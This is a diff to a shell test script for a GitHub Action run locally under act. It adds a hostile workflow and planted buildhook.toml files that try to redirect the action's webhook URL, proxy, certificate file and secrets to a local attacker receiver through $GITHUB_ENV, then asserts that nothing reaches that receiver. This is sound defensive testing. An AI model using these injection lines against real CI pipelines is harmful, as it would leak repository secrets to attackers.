@@ -8,6 +8,8 @@ require "$act" git node python3
 
 secret='action "secret" $1'
 mkdir "$tmp/repository"
+start_receiver "$tmp/attacker"
+attacker=$url
 start_receiver "$tmp/received"
 # Copy only tracked files: the action must not pick up a program from target/.
 (cd "$(dirname "$0")/../.." && git ls-files -z action action.yml | xargs -0 cp --parents -t "$tmp/repository")
@@ -99,6 +101,47 @@ jobs:
           secret: ${{ secrets.WEBHOOK_SECRET }}
       - run: sleep 300
 YAML
+# The checkout and a step of the job try to have the last step's events and secrets sent elsewhere.
+cat >"$tmp/project/.github/workflows/hostile.yml" <<'YAML'
+name: Hostile
+on: workflow_dispatch
+jobs:
+  job:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: buildhook/buildhook@v1
+        env:
+          LAB_SECRET: ${{ secrets.WEBHOOK_SECRET }}
+          LAB_URL: ${{ secrets.WEBHOOK_URL }}
+        with:
+          config: |
+            [[endpoint]]
+            url = "${LAB_URL}"
+            secret = "${LAB_SECRET}"
+          artifacts: app.bin
+      - run: |
+          cat >>"$GITHUB_ENV" <<ENV
+          BUILDHOOK_URL=$ATTACKER
+          BUILDHOOK_URL_2=$ATTACKER
+          BUILDHOOK_SECRET=known
+          BUILDHOOK_TRUST_WORKSPACE=true
+          BUILDHOOK_STATE_DIR=$PWD/state
+          HTTP_PROXY=$ATTACKER
+          http_proxy=$ATTACKER
+          SSL_CERT_FILE=$PWD/evil.pem
+          LAB_URL=$ATTACKER
+          LAB_SECRET=known
+          INPUT_URL=$ATTACKER
+          INPUT_SECRET=known
+          BUILDHOOK_VERSION=7.8.9
+          ENV
+          printf 'BUILDHOOK_CONFIG<<E\n[[endpoint]]\nurl = "%s"\nE\n' "$ATTACKER" >>"$GITHUB_ENV"
+          printf x >app.bin
+YAML
+mkdir -p "$tmp/project/.github"
+for file in .buildhook.toml .github/buildhook.toml; do
+  printf '[[endpoint]]\nurl = "%s"\nsecret = "${LAB_SECRET}"\n' "$attacker" >"$tmp/project/$file"
+done
 git init -q "$tmp/project"
 git -C "$tmp/project" remote add origin https://github.com/example/app.git
 git -C "$tmp/project" add -A
@@ -137,6 +180,7 @@ sleep 0.5
 kill -INT "$act_pid"
 wait "$act_pid" && fail 'act exited 0 for a cancelled job' "$tmp/cancelled.log"
 copy_new_requests cancelled
+run_act hostile 0 workflow_dispatch -W .github/workflows/hostile.yml "${secrets[@]}" --env "ATTACKER=$attacker"
 run_act fork 0 pull_request -j good -W .github/workflows/build.yml --eventpath "$tmp/pull_request.json"
 
 tmp=$tmp secret=$secret python3 - <<'PYTHON' || fail 'the received events do not match the jobs' "$tmp"/*.log
@@ -179,8 +223,17 @@ assert re.search(r"delivered 1 of event [0-9a-f-]{36}", log), log
 assert (first_event, last_event, end["build_status"]) == ("build/triggered", "build/finished", 3), end
 assert start["build_slug"] == end["build_slug"]
 
+events = received("hostile")
+assert [event for event, _ in events] == ["build/triggered", "build.created", "build/finished"], events
+assert "7.8.9" in json.dumps(events[1][1]["data"]["build"]), "the step exported the version"
+assert list((tmp / "attacker").glob("*.json")) == [], "the attacker got an event"
+log = (tmp / "hostile.log").read_text()
+assert "ignoring changes that steps of this job made to" in log and "LAB_SECRET" in log, log
+assert "buildhook.toml is not read" not in log, "a configuration is given"
+
 assert received("fork") == []
 log = (tmp / "fork.log").read_text()
 assert "no URL configured (pull requests from forks have no secrets)" in log, log
 PYTHON
-echo 'action: passed under act: push, pull request, failing and cancelled jobs, matrix, artifacts, needs, fork, emptied workspace'
+echo 'action: passed under act: push, pull request, failing and cancelled jobs, matrix, artifacts, needs, fork, emptied workspace, hostile
+  checkout and step'
